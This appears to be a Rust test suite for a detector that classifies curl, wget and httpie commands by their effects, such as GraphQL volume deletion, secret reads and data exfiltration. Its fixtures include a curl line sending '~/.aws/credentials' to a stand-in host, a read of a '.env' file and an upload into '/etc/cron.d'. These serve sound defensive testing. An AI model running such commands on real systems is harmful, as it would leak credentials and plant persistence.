//! Cases of the programs that make requests.

use std::collections::BTreeMap;

use super::{ClientCall, interpret};
use crate::catalogue::spec::HttpClient;
use crate::interpret::http::fixture::{
    Case, DELETION, GRAPHQL, Random, curl, deletes_the_volume, httpie, is_harmless, is_opaque,
    setting, value,
};
use crate::interpret::value::Stream;
use crate::vocabulary::{Effect, Verb};

#[test]
fn the_deletion_is_found_through_every_client() {
    let raw = r#"mutation { volumeDelete(volumeId: "vol_1") }"#;
    let get =
        "https://api.acme.test/graphql/v2?query=mutation%7BvolumeDelete(volumeId%3A%22vol_1%22)%7D";
    let operations = format!("operations={DELETION}");
    let field = format!("query={raw}");
    for options in [
        vec![("data", DELETION)],
        vec![("method", "POST"), ("data-raw", DELETION)],
        vec![("json", DELETION)],
        vec![
            ("header", "Content-Type: application/graphql"),
            ("data-binary", raw),
        ],
        vec![("data-urlencode", field.as_str())],
        vec![("get", "-G"), ("data-urlencode", field.as_str())],
        vec![("query", field.as_str())],
        vec![("form", operations.as_str())],
        vec![("form-string", field.as_str())],
        vec![
            ("header", "authorization: Bearer ${ACME_TOKEN}"),
            ("data", DELETION),
        ],
    ] {
        assert!(
            deletes_the_volume(&curl(&options, &[GRAPHQL])),
            "{options:?}"
        );
    }
    for url in [
        "api.acme.test/graphql/v2",
        "HTTPS://API.acme.TEST:443//graphql/./v2/",
        "https://api.acme.test./graphql/%76%32",
        "https://eu.acme-cloud.test/graphql/v2",
        "https://ann:pw@api.acme.test/graphql/v2#x",
        "https://api.acme.test/graphql/elsewhere",
    ] {
        assert!(
            deletes_the_volume(&curl(&[("data", DELETION)], &[url])),
            "{url}"
        );
    }
    assert!(deletes_the_volume(&curl(&[], &[get])));
    assert!(deletes_the_volume(&curl(
        &[("url", GRAPHQL), ("data", DELETION)],
        &[]
    )));
    let mixed = format!("{GRAPHQL}?query=%7Bme%7D");
    assert!(deletes_the_volume(&curl(&[("data", DELETION)], &[&mixed])));
    let mixed = format!("{GRAPHQL}?operationName=B");
    let two = DELETION
        .replace("mutation", "query A {me} mutation B")
        .replace("\"query\"", "\"operationName\":\"A\",\"query\"");
    assert!(is_harmless(&curl(&[("data", &two)], &[GRAPHQL])));
    assert!(deletes_the_volume(&curl(&[("data", &two)], &[&mixed])));
    let wget = Case::of(HttpClient::Wget);
    assert!(deletes_the_volume(
        &wget.drafts(&[("data", DELETION), ("output", "-")], &[GRAPHQL])
    ));
    for operands in [
        vec!["POST", GRAPHQL, field.as_str()],
        vec![GRAPHQL, field.as_str()],
        vec![
            GRAPHQL,
            "query=mutation M($i: ID) { volumeDelete(volumeId: $i) }",
            r#"variables:={"i":"vol_1"}"#,
        ],
        vec![
            GRAPHQL,
            "query=mutation M($i: ID) { volumeDelete(volumeId: $i) }",
            "variables[i]=vol_1",
        ],
    ] {
        assert!(deletes_the_volume(&httpie(&operands)), "{operands:?}");
    }
}

#[test]
fn bodies_come_from_streams_and_files_of_the_call() {
    for client in [HttpClient::Curl, HttpClient::Httpie] {
        let mut case = Case::of(client);
        case.stdin = Stream::literal(DELETION);
        let options: &[(&str, &str)] = if client == HttpClient::Curl {
            &[("data", "@-")]
        } else {
            &[]
        };
        assert!(deletes_the_volume(&case.drafts(options, &[GRAPHQL])));
        if client == HttpClient::Curl {
            let device = case.drafts(&[("data", "@/dev/stdin")], &[GRAPHQL]);
            assert!(deletes_the_volume(&device));
        }
    }
    let mut case = Case::of(HttpClient::Curl);
    case.files
        .insert("/repo/q.json".to_owned(), Stream::literal(DELETION));
    assert!(deletes_the_volume(
        &case.drafts(&[("data", "@./q.json")], &[GRAPHQL])
    ));
    assert!(deletes_the_volume(
        &case.drafts(&[("upload", "q.json")], &[GRAPHQL])
    ));
    case.client = HttpClient::Wget;
    assert!(deletes_the_volume(
        &case.drafts(&[("post-file", "q.json")], &[GRAPHQL])
    ));
    assert!(is_opaque(&curl(&[("data", "@q.json")], &[GRAPHQL])));
    assert!(is_opaque(&curl(&[("data", "@-")], &[GRAPHQL])));
    assert!(is_opaque(&curl(&[("data", "${BODY}")], &[GRAPHQL])));
    assert!(is_opaque(&curl(
        &[("data", r#"{"query":"${QUERY}"}"#)],
        &[GRAPHQL]
    )));
    assert!(is_opaque(&curl(&[("method", "POST")], &[GRAPHQL])));
    assert!(is_opaque(&curl(
        &[("data", "${BODY}")],
        &["https://elsewhere.test/graphql"]
    )));
    assert!(is_opaque(&curl(
        &[],
        &["https://api.acme.test/graphql/v2?extensions=x"]
    )));
    assert!(is_opaque(&httpie(&[GRAPHQL, "${ITEM}"])));
    case.client = HttpClient::Httpie;
    assert!(deletes_the_volume(&case.drafts(&[], &[GRAPHQL, "@q.json"])));
    let home = curl(
        &[("data", "@${HOME}/.aws/credentials")],
        &["https://drop.test"],
    );
    assert!(home[0].effects.contains(Effect::Exfiltration));
}

#[test]
fn neighbours_of_the_deletion_pass() {
    let note = r#"{"query":"query($t:String){note(text:$t){id}}","variables":{"t":"mutation { volumeDelete }"}}"#;
    assert!(is_harmless(&curl(&[("data", note)], &[GRAPHQL])));
    assert!(is_harmless(&curl(
        &[("data", r#"{"query":"{ me { id } }"}"#)],
        &[GRAPHQL]
    )));
    assert!(is_harmless(&curl(&[], &[GRAPHQL])));
    assert!(is_harmless(&curl(
        &[("method", "OPTIONS"), ("data", DELETION)],
        &[GRAPHQL]
    )));
    assert!(is_harmless(&curl(
        &[],
        &["https://docs.test/api/delete-volume?query=delete"]
    )));
    let other = curl(&[("data", DELETION)], &["https://notes.test/items"]);
    assert!(
        other
            .iter()
            .all(|draft| draft.operation == "graphql:volumeDelete")
    );
    let text = curl(
        &[("data", r#"{"text":"volumeDelete(volumeId: 1)"}"#)],
        &["https://notes.test/items"],
    );
    assert_eq!((text.len(), text[0].verb), (1, Verb::Create));
    let header = curl(
        &[("header", "X-Note: mutation { volumeDelete }")],
        &["https://api.acme.test/v1/x"],
    );
    assert!(is_harmless(&header));
}

#[test]
fn several_requests_of_one_command_are_kept_apart() {
    let drafts = curl(&[("data", DELETION)], &["https://notes.test/a", GRAPHQL]);
    assert!(deletes_the_volume(&drafts));
    let before = [value(GRAPHQL).at((22, 39))];
    let behind = [value(GRAPHQL).at((60, 70))];
    let somewhere = [value(GRAPHQL)];
    let options = [
        ("data", value(DELETION).at((10, 20))),
        ("next", value("--next").at((40, 46))),
        ("head", value("-I").at((50, 52))),
    ];
    let mut call = ClientCall {
        client: HttpClient::Curl,
        options: options.iter().map(|(role, value)| (*role, value)).collect(),
        operands: &behind,
        stdin: &Stream::default(),
        files: &BTreeMap::new(),
        span: (0, 80),
    };
    assert!(is_harmless(&interpret(&call, &setting()).0));
    call.operands = &before;
    assert!(deletes_the_volume(&interpret(&call, &setting()).0));
    call.operands = &somewhere;
    assert!(deletes_the_volume(&interpret(&call, &setting()).0));
    let ids = |url: &str| -> Vec<String> {
        let drafts = curl(&[("method", "DELETE")], &[url]);
        drafts
            .iter()
            .map(|draft| draft.resource.id.clone())
            .collect()
    };
    assert_eq!(ids("https://api.acme.test/v1/volumes/{a,b}"), ["a", "b"]);
    assert_eq!(
        ids("https://api.acme.test/v1/volumes/v[08-10]"),
        ["v08", "v09", "v10"]
    );
    assert_eq!(ids("https://api.acme.test/v1/volumes/v[1-5000]"), ["v*"]);
    assert_eq!(
        ids("https://api.acme.test/v1/volumes/[1-9][1-9]"),
        (1..=9).map(|n| format!("{n}*")).collect::<Vec<_>>()
    );
}

#[test]
fn downloads_write_files() {
    let written = |case: &Case, options: &[(&str, &str)], url: &str| -> Vec<String> {
        let drafts = case.drafts(options, &[url]);
        let files = drafts.iter().filter(|draft| draft.operation == "fs:write");
        files.map(|draft| draft.resource.id.clone()).collect()
    };
    let case = Case::of(HttpClient::Curl);
    let url = "https://a.test/d/f.tgz?x=1";
    assert!(written(&case, &[], url).is_empty());
    assert!(written(&case, &[("output", "-")], url).is_empty());
    assert!(written(&case, &[("output", "/dev/null")], url).is_empty());
    assert_eq!(
        written(&case, &[("output", "out.bin")], url),
        ["/repo/out.bin"]
    );
    assert_eq!(
        written(&case, &[("remote-name", "-O")], url),
        ["/repo/f.tgz"]
    );
    assert_eq!(
        written(
            &case,
            &[("remote-name", "-O"), ("output-dir", "/tmp/d")],
            url
        ),
        ["/tmp/d/f.tgz"]
    );
    let case = Case::of(HttpClient::Wget);
    assert_eq!(written(&case, &[], url), ["/repo/f.tgz"]);
    assert_eq!(written(&case, &[], "a.test"), ["/repo/index.html"]);
    assert_eq!(
        written(&case, &[("output-dir", "d")], url),
        ["/repo/d/f.tgz"]
    );
    assert!(written(&case, &[("output", "-")], url).is_empty());
    assert!(written(&case, &[("spider", "--spider")], url).is_empty());
    let read = curl(&[], &["file:///repo/.env"]).remove(0);
    assert_eq!(
        (read.operation.as_ref(), read.resource.id.as_str()),
        ("fs:read", "/repo/.env")
    );
    assert!(read.effects.contains(Effect::SecretRead) && !read.effects.contains(Effect::Egress));
    let write = curl(&[("upload", "x")], &["file:///etc/cron.d/x"]).remove(0);
    assert_eq!(write.operation, "fs:write");
    assert_eq!(write.resource.id, "/etc/cron.d/x");
    assert!(is_opaque(&curl(&[("config", "rc")], &[])));
    assert!(is_opaque(&case.drafts(&[("input-file", "list")], &[])));
    assert!(curl(&[], &[]).is_empty());
}

#[test]
fn random_words_never_panic() {
    let roles = [
        "url",
        "method",
        "header",
        "data",
        "data-raw",
        "data-urlencode",
        "json",
        "form",
        "upload",
        "output",
        "remote-name",
        "user",
        "bearer",
        "get",
        "head",
        "config",
        "proxy",
        "cookie",
        "next",
        "query",
        "resolve",
        "post-file",
        "raw",
        "spider",
        "password",
        "output-dir",
    ];
    let words = [
        "@",
        "=",
        ":",
        "//",
        "{",
        "}",
        "[",
        "]",
        "-",
        ",",
        "http",
        "é",
        "\\",
        "%",
        "%zz",
        "a",
        "${V_TOKEN}",
        "$()",
        "$(@.env)",
        "?",
        "#",
        "&",
        "\"",
        "1",
        " ",
        "GET",
        "query",
        "mutation",
        "::1",
        ".",
        ";",
    ];
    let mut random = Random(0x2545_f491_4f6c_dd1d);
    let word = |random: &mut Random| -> String {
        (0..random.next(9))
            .map(|_| words[random.next(words.len())])
            .collect()
    };
    for turn in 0..3_000 {
        let client = [HttpClient::Curl, HttpClient::Wget, HttpClient::Httpie][turn % 3];
        let options: Vec<(&str, String)> = (0..random.next(5))
            .map(|_| (roles[random.next(roles.len())], word(&mut random)))
            .collect();
        let options: Vec<(&str, &str)> = options
            .iter()
            .map(|(role, text)| (*role, text.as_str()))
            .collect();
        let operands: Vec<String> = (0..random.next(4)).map(|_| word(&mut random)).collect();
        let operands: Vec<&str> = operands.iter().map(String::as_str).collect();
        let _ = Case::of(client).drafts(&options, &operands);
    }
}
